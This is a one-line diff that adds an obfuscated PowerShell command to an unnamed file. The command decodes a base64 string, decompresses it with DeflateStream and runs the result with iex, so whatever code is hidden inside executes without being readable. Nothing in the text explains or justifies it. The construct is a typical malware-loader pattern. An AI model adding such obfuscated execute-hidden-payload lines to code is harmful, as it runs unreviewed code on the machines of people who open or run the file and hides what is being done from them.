@@ -1,0 +1,1 @@
+iex (New-Object IO.StreamReader((New-Object IO.Compression.DeflateStream([IO.MemoryStream][Convert]::FromBase64String('U0lWsFXwSy3X9U/KSk0uATJL9MJTk5xzMlPzSqwVVJL1XPLL83LyE1OCS4oy89I11DNKSgqs9PUT9VIrEnMLclL1C/Qr9EoqStQ1AQ=='),[IO.Compression.CompressionMode]::Decompress)),[Text.Encoding]::ASCII)).ReadToEnd()
